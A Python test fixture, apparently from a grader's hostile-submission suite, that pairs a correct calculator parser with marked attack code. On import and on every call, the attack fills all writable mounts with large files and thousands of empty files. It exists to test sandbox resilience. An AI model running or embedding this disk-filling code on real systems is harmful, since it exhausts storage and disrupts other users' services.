"""Hostile submission `dos-fill-disk` for the `calculatrice` exercise (see tests/hostile).

Attack: fills every writable file system (/tmp, /dev/shm, the working folder, HOME, any
rw mount) with 15 MiB files at import (until ENOSPC), then with empty files (1,000 per
folder at import, 100 more on every call, up to 20,000) and one more MiB per call; full
correct parser otherwise.

The per-call count is what keeps the attack's own cost far below its 2 s call limit under
every runtime: under gVisor's ptrace platform a file creation costs about 0.7 ms and the
call clock is the wall clock (gVisor has no schedstat to take the machine's load off), so
1,000 per folder per call cost 1.4 s idle and passed or timed out by the host's load (CI
run of d2004ff: 18/48). The case is about a full disk, not about a slow student.

Honest part: a complete, correct recursive descent parser. The attack sits between the
`# --- attack ---` and `# --- end of attack ---` markers; without them the file is its
honest part, and what that part earns is all this submission may ever get.
"""


import re


# --- attack ---
import os
# --- end of attack ---


# One token at a time: a number (digits, optionally a dot and more digits),
# an operator or a parenthesis, each possibly preceded by spaces.
TOKEN = re.compile(r"\s*(?:(\d+(?:\.\d+)?)|([-+*/()]))")


def _tokens(text):
    result = []
    pos = 0
    text = text.rstrip()
    while pos < len(text):
        match = TOKEN.match(text, pos)
        if match is None:
            raise ValueError("invalid character in: " + text)
        number, symbol = match.groups()
        result.append(float(number) if number is not None else symbol)
        pos = match.end()
    return result


def _honest(expression):
    """A complete recursive descent parser (no eval)."""
    tokens = _tokens(expression)
    pos = 0

    def current():
        return tokens[pos] if pos < len(tokens) else None

    def advance():
        nonlocal pos
        pos += 1

    def sum_of_products():
        total = product()
        while current() in ("+", "-"):
            op = current()
            advance()
            right = product()
            total = total + right if op == "+" else total - right
        return total

    def product():
        total = signed()
        while current() in ("*", "/"):
            op = current()
            advance()
            right = signed()
            if op == "*":
                total = total * right
            elif right == 0:
                raise ZeroDivisionError("division by zero")
            else:
                total = total / right
        return total

    def signed():
        if current() == "-":
            advance()
            return -signed()
        return atom()

    def atom():
        token = current()
        if isinstance(token, float):
            advance()
            return token
        if token == "(":
            advance()
            value = sum_of_products()
            if current() != ")":
                raise ValueError("missing )")
            advance()
            return value
        raise ValueError("expected a number or (")

    result = sum_of_products()
    if pos != len(tokens):
        raise ValueError("unexpected text at the end")
    return float(result)


# --- attack ---
def _writable_mounts():
    # Every writable file system: /tmp, /dev/shm and whatever else is mounted read-write.
    folders = ["/tmp", os.getcwd(), os.path.expanduser("~"), "/dev/shm", "/var/tmp", "/run/lock"]
    try:
        with open("/proc/mounts") as mounts:
            for line in mounts:
                fields = line.split()
                if len(fields) > 3 and "rw" in fields[3].split(",") and not fields[1].startswith(("/proc", "/sys")):
                    folders.append(fields[1])
    except OSError:
        pass
    return [f for f in dict.fromkeys(folders) if os.access(f, os.W_OK)]


def _fill():
    block = b"\xff" * (15 << 20)  # just under the 16 MiB file-size limit
    for folder in _writable_mounts():
        for n in range(64):
            try:
                with open(os.path.join(folder, ".fill-%03d" % n), "wb") as handle:
                    handle.write(block)
            except OSError:
                break


_INODES = [0]


def _more_inodes(count):
    # Empty files, a few hundred per call (creating them all at once would take seconds).
    first = _INODES[0]
    _INODES[0] += count
    for folder in _writable_mounts():
        for n in range(first, first + count):
            try:
                open(os.path.join(folder, ".inode-%05d" % n), "wb").close()
            except OSError:
                break


try:
    _fill()
    _more_inodes(1000)
except OSError:
    pass
# --- end of attack ---


def calculate(expression: str) -> float:
    # --- attack ---
    try:
        with open("/tmp/.fill-more", "ab") as handle:
            handle.write(b"\xff" * (1 << 20))
    except OSError:
        pass
    if _INODES[0] < 20_000:
        _more_inodes(100)
    # --- end of attack ---
    return _honest(expression)
